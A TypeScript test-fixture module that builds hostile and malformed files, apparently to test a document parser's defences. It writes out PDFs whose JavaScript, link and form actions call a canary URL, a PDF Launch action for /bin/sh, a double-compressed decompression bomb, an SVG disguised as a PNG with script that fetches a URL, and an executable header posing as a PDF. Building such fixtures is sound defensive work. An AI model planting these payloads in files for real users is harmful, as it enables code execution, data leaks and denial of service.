import { crc32, deflateSync } from 'node:zlib';

/** Documents that are hostile, broken or very large, written byte by byte. */
export function oddDocuments(canary: string): Readonly<Record<string, Uint8Array>> {
  return {
    'scripted.pdf': scriptedPdf(canary),
    'bomb.pdf': bombPdf(),
    'locked.pdf': lockedPdf(),
    'long.pdf': longPdf(300),
    'cut.pdf': longPdf(3).subarray(0, 300),
    'wall.pdf': pdf([pageOf('4 0 R', '[0 0 14400 14400]'), stream('', Buffer.from('0 0 14400 14400 re f'))]),
    'huge.png': png(60_000, 60_000, Buffer.alloc(64)),
    'large.png': png(8_000, 6_000),
    'cut.png': png(800, 600).subarray(0, 120),
    'drawing.png': Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${canary}')"><script>fetch('${canary}')</script></svg>`,
    ),
    'empty.pdf': Buffer.alloc(0),
    'program.pdf': Buffer.from('MZ\u0090\u0000 this is no document'),
  };
}

/** Everything by which a PDF can act: on opening, on a page, by a link, a form, a launch, an embedded file. */
function scriptedPdf(canary: string): Buffer {
  const script = (code: string) => `<</S/JavaScript/JS(${code})>>`;
  const call = script(
    `app.launchURL\\('${canary}'\\); this.submitForm\\('${canary}'\\); app.alert\\('hello'\\);`,
  );
  const annotation = (action: string) =>
    `<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/Border[0 0 4]/A ${action}>>`;
  return pdf(
    [
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/AA<</O ${call}/C ${call}>>/Annots[` +
        `${annotation(`<</S/URI/URI(${canary})>>`)}${annotation('<</S/Launch/F(/bin/sh)>>')}` +
        `${annotation(call)}<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/Rect[9 9 99 99]/AA<</K ${call}/F ${call}>>>>]>>`,
      stream('', Buffer.from('0.2 0.4 0.8 rg 100 400 300 200 re f')),
    ],
    `/OpenAction ${call}/AA<</WC ${call}>>/Names<</JavaScript<</Names[(a) ${call}]>>>>/AcroForm<</Fields[]/XFA 9 0 R>>`,
  );
}

/** A few kilobytes that unpack to hundreds of megabytes, in one step and in two. */
function bombPdf(): Buffer {
  const once = deflateSync(Buffer.alloc(300 * 1024 * 1024, 0x20), { level: 1 });
  return pdf([
    pageOf('[4 0 R 5 0 R]'),
    stream('/Filter[/FlateDecode/FlateDecode]', deflateSync(once)),
    stream('/Filter/FlateDecode', once),
  ]);
}

/** Says that it is encrypted; no password that one could guess opens it. */
function lockedPdf(): Buffer {
  const lock = `<</Filter/Standard/V 2/R 3/Length 128/P -44/O<${'a1'.repeat(32)}>/U<${'b2'.repeat(32)}>>>`;
  return pdf(
    [pageOf('4 0 R'), stream('', Buffer.from('0 0 9 9 re f'))],
    '',
    `/Encrypt ${lock}/ID[<${'00'.repeat(16)}><${'00'.repeat(16)}>]`,
  );
}

function longPdf(pages: number): Buffer {
  const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';
  const kids: string[] = [];
  const objects: (string | Buffer)[] = [];
  for (let page = 1; page <= pages; page += 1) {
    const id = 3 + objects.length;
    kids.push(`${id} 0 R`);
    objects.push(
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F ${font}>>>>/Contents ${id + 1} 0 R>>`,
      stream('', Buffer.from(`BT /F 48 Tf 100 600 Td (Page number ${page}) Tj ET 100 300 ${page} 40 re f`)),
    );
  }
  return pdf(objects, '', '', kids);
}

function pageOf(contents: string, box = '[0 0 595 842]'): string {
  return `<</Type/Page/Parent 2 0 R/MediaBox${box}/Contents ${contents}>>`;
}

function stream(dictionary: string, body: Uint8Array): Buffer {
  return Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${body.length}>>stream\n`),
    body,
    Buffer.from('\nendstream'),
  ]);
}

/** Objects from number 3 on; 1 is the catalogue and 2 the pages, of which number 3 is the first. */
function pdf(
  objects: readonly (string | Buffer)[],
  catalogue = '',
  trailer = '',
  kids: readonly string[] = ['3 0 R'],
): Buffer {
  const all = [
    `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
    `<</Type/Pages/Kids[${kids.join(' ')}]/Count ${kids.length}>>`,
    ...objects,
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let at = parts[0]?.length ?? 0;
  const push = (part: Buffer) => {
    parts.push(part);
    at += part.length;
  };
  for (const [index, object] of all.entries()) {
    offsets.push(at);
    push(
      Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
    );
  }
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const start = at;
  push(
    Buffer.from(
      `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${entries}` +
        `trailer<</Size ${all.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

/** A black and white PNG, striped unless its pixels are given. */
function png(width: number, height: number, pixels?: Buffer): Buffer {
  const rowBytes = 1 + Math.ceil(width / 8);
  const rows = pixels ?? Buffer.alloc(rowBytes * height);
  if (pixels === undefined) {
    for (let y = 0; y < height; y += 1)
      rows.fill(y % 64 < 32 ? 0xff : 0x0f, y * rowBytes + 1, (y + 1) * rowBytes);
  }
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(type: string, body: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), body]);
  const result = Buffer.alloc(named.length + 8);
  result.writeUInt32BE(body.length, 0);
  named.copy(result, 4);
  result.writeUInt32BE(crc32(named), named.length + 4);
  return result;
}
